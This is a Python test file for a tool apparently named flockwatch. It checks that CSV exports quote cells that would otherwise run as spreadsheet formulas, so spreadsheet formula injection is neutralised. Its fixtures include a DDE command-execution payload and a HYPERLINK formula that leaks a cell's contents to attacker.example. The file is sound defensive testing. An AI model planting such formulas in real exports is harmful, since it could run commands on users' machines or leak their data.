"""CSV exports open safely in a spreadsheet: text that would run as a formula starts with `'`, numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from flockwatch.cli.app import app
from flockwatch.csv_cells import FORMULA_STARTS, safe_cell
from flockwatch.graph.coordination import Options, coordination_network
from flockwatch.graph.export import write_edges
from flockwatch.graph.toolkit_csv import TOOLKIT_COLUMNS, TableBuilder

HOSTILE_IDS = ["=cmd|' /C calc'!A0", "-1+2", "+SUM(A1:A9)", "@HYPERLINK(x)", "\t=1", "\r=1"]
TEXT = '=HYPERLINK("http://attacker.example/?leak="&A1,"click") same words'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        ("a=1", "a=1"),
        ("-5", "-5"),
        ("+1.5e3", "+1.5e3"),
        ("-.5", "-.5"),
        (3, 3),
        (-0.25, -0.25),
    ],
)
def test_cells(value: object, written: object) -> None:
    assert safe_cell(value) == written


@given(st.text(max_size=50))
def test_no_text_cell_can_start_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may start with + or -
    assert cell == text or cell == "'" + text


def hostile_network() -> object:
    builder = TableBuilder()
    for i, user in enumerate(HOSTILE_IDS):
        builder.add(f"=m{i}", user, f"@name{i}", "", "", TEXT, float(10 * i), [])
    return coordination_network(builder.table, "co_tweet", Options(window=600, min_weight=1))


def test_exported_edges_keep_numbers_numeric_and_quote_formulas(tmp_path: Path) -> None:
    net = hostile_network()
    out = tmp_path / "edges.csv"
    write_edges(net, out, "csv")  # type: ignore[arg-type]
    with out.open(encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    assert len(rows) == len(HOSTILE_IDS) * (len(HOSTILE_IDS) - 1)
    text_columns = {"source", "target", "examples"}
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
            if name not in text_columns:
                float(cell)  # weight and the numeric evidence are still numbers
        assert int(row[header.index("weight")]) >= 1
    assert {r[0] for r in rows} == {"'" + user for user in HOSTILE_IDS}


def test_the_coordination_command_writes_safe_csv(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(TOOLKIT_COLUMNS)
        for i, user in enumerate(HOSTILE_IDS):
            writer.writerow([f"{i}", user, f"=name{i}", "", "", TEXT, str(1478563200 + 10 * i), ""])
    out = tmp_path / "edges.csv"
    args = ["graph", "coordination", "--input", str(source), "--kind", "co_tweet", "--window", "600"]
    result = CliRunner().invoke(app, [*args, "--min-weight", "1", "--output", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert "'=cmd|' /C calc'!A0" in cells
